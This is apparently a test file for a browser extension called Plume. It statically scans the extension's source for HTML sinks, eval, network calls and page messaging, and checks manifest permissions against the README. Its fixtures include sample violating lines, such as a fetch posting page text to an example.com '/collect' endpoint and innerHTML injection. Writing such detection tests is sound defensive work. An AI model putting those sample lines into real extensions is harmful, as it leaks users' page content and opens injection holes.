// Static rules over the extension's source (extension/**/*.ts), run with the browser tests:
// page text and pack messages can only reach the DOM as text (no HTML sinks, no code from
// strings), the content script hands nothing to the page (no postMessage, custom events or the
// page's storage), and no context can reach the network (the only fetch reads a file of the
// extension's own package).
import { test } from "node:test";
import assert from "node:assert/strict";
import { readdir, readFile } from "node:fs/promises";
import path from "node:path";
import { root } from "./harness.mjs";

/** [what, pattern, folders it applies to (all when empty)]. */
const RULES = [
  ["an HTML sink (innerHTML)", /\binnerHTML\b/, []],
  ["an HTML sink (outerHTML)", /\bouterHTML\b/, []],
  ["an HTML sink (insertAdjacentHTML)", /\binsertAdjacentHTML\b/, []],
  ["an HTML sink (document.write)", /\bdocument\s*\.\s*write(ln)?\b/, []],
  ["an HTML parser (DOMParser)", /\bDOMParser\b/, []],
  ["an HTML parser (createContextualFragment)", /\bcreateContextualFragment\b/, []],
  ["an iframe srcdoc", /\bsrcdoc\b/, []],
  ["code from a string (eval)", /\beval\s*\(/, []],
  ["code from a string (new Function)", /\bnew\s+Function\s*\(/, []],
  ["code from a string (string timer)", /\bset(Timeout|Interval)\s*\(\s*["'`]/, []],
  ["a javascript: URL", /javascript:/i, []],
  ["a network API (XMLHttpRequest)", /\bXMLHttpRequest\b/, []],
  ["a network API (WebSocket)", /\bWebSocket\b/, []],
  ["a network API (EventSource)", /\bEventSource\b/, []],
  ["a network API (sendBeacon)", /\bsendBeacon\b/, []],
  ["a dynamic import", /\bimport\s*\(/, []],
  ["a fetch of anything but the extension's own files", /\bfetch\s*\((?!\s*chrome\.runtime\.getURL\()/, []],
  // `port.postMessage` is the chrome.runtime port to the extension's own worker, not the page.
  ["a message to the page (postMessage)", /(?<!\bport\.)\bpostMessage\s*\(/, ["content"]],
  ["an event carrying data to the page (CustomEvent)", /\bCustomEvent\b/, ["content"]],
  ["an event carrying data to the page (MessageEvent)", /\bMessageEvent\b/, ["content"]],
  ["the page's storage (localStorage)", /\blocalStorage\b/, ["content"]],
  ["the page's storage (sessionStorage)", /\bsessionStorage\b/, ["content"]],
  ["the page's storage (cookie)", /\bdocument\s*\.\s*cookie\b/, ["content"]],
  ["the page's storage (window.name)", /\bwindow\s*\.\s*name\b/, ["content"]],
  ["the extension's storage in the content script", /\bchrome\s*\.\s*storage\b/, ["content"]],
];

/** The source without comments (a doc comment may name what the code avoids). */
function withoutComments(source) {
  return source.replace(/\/\*[\s\S]*?\*\//g, "").replace(/(^|[^:"'`\\])\/\/.*$/gm, "$1");
}

/** Every violation in `source` (a file under extension/`folder`), as "file:line: what". */
export function violations(file, folder, source) {
  const found = [];
  withoutComments(source)
    .split("\n")
    .forEach((line, index) => {
      for (const [what, pattern, folders] of RULES) {
        if (folders.length > 0 && !folders.includes(folder)) continue;
        if (pattern.test(line)) found.push(`${file}:${index + 1}: ${what}: ${line.trim()}`);
      }
    });
  return found;
}

async function tsFiles(dir) {
  const out = [];
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) out.push(...(await tsFiles(full)));
    else if (entry.name.endsWith(".ts")) out.push(full);
  }
  return out;
}

test("the rules catch each kind of violation they name", () => {
  const bad = [
    ["popover.ts", "content", "panel.innerHTML = diagnostic.message;"],
    ["popover.ts", "content", "node.insertAdjacentHTML('beforeend', why);"],
    ["options.ts", "options", "document.write(text);"],
    ["worker.ts", "background", "await fetch('https://example.com/collect', { body: text });"],
    ["main.ts", "content", "window.postMessage({ dictionary }, '*');"],
    ["main.ts", "content", "document.dispatchEvent(new CustomEvent('plume', { detail: settings }));"],
    ["main.ts", "content", "localStorage.setItem('plume', words);"],
    ["learn.ts", "learn", "setTimeout('run()', 10);"],
  ];
  for (const [file, folder, line] of bad) assert.equal(violations(file, folder, line).length, 1, line);
  // What the extension does legitimately is not flagged.
  assert.deepEqual(violations("worker.ts", "background", 'const r = await fetch(chrome.runtime.getURL("dict/fr.dict"));'), []);
  assert.deepEqual(violations("popover.ts", "content", "// never innerHTML\nnode.textContent = message; // not innerHTML"), []);
  assert.deepEqual(violations("popover.ts", "content", 'link.href = "https://example.com"; // ok'), []);
});

test("no extension source sends page or pack text to an HTML sink, the page, or the network", async () => {
  const dir = path.join(root, "extension");
  const files = await tsFiles(dir);
  assert.ok(files.length > 20, `found ${files.length} TypeScript files under extension/`);
  const found = [];
  for (const file of files) {
    const relative = path.relative(dir, file);
    found.push(...violations(relative, relative.split(path.sep)[0], await readFile(file, "utf8")));
  }
  assert.deepEqual(found, []);
});

/** What the code must use for each permission the manifest asks for. */
const PERMISSION_USES = {
  storage: /\bchrome\.storage\.(sync|local|managed)\b/,
  // activeTab is what lets the popup read the active tab's address.
  activeTab: /\btab\??\.url\b/,
  scripting: /\bchrome\.scripting\.registerContentScripts\b/,
};

test("the manifest asks only for permissions the README explains and the code uses", async () => {
  const manifest = JSON.parse(await readFile(path.join(root, "manifest.json"), "utf8"));
  const readme = await readFile(path.join(root, "README.md"), "utf8");
  const section = readme.slice(readme.indexOf("## Permissions"), readme.indexOf("\n## ", readme.indexOf("## Permissions") + 1));
  assert.ok(section.length > 100, "README has a Permissions section");
  const code = (await Promise.all((await tsFiles(path.join(root, "extension"))).map((f) => readFile(f, "utf8")))).join("\n");
  assert.deepEqual(Object.keys(PERMISSION_USES).sort(), [...manifest.permissions].sort(), "every permission has a known use");
  for (const permission of manifest.permissions) {
    assert.match(section, new RegExp(`\\| \`${permission}\` \\|`), `README explains ${permission}`);
    assert.match(code, PERMISSION_USES[permission], `the code uses ${permission}`);
  }
  assert.equal(manifest.host_permissions, undefined, "no host permission at install");
  assert.equal(manifest.externally_connectable, undefined, "pages and other extensions cannot message Plume");
  assert.equal(manifest.web_accessible_resources, undefined, "pages cannot load the extension's files");
  assert.deepEqual(manifest.optional_host_permissions, ["https://*/*", "http://*/*"]);
  for (const pattern of manifest.optional_host_permissions) assert.ok(section.includes(`\`${pattern}\``), `README explains ${pattern}`);
  for (const script of manifest.content_scripts) {
    for (const match of script.matches) {
      const host = new URL(match.replace("*.", "wildcard.").replace(/\/\*$/, "/")).host.replace("wildcard.", "*.");
      assert.ok(section.includes(`\`${host}\``) || section.includes(`\`${match}\``), `README explains the content script on ${match}`);
    }
  }
});
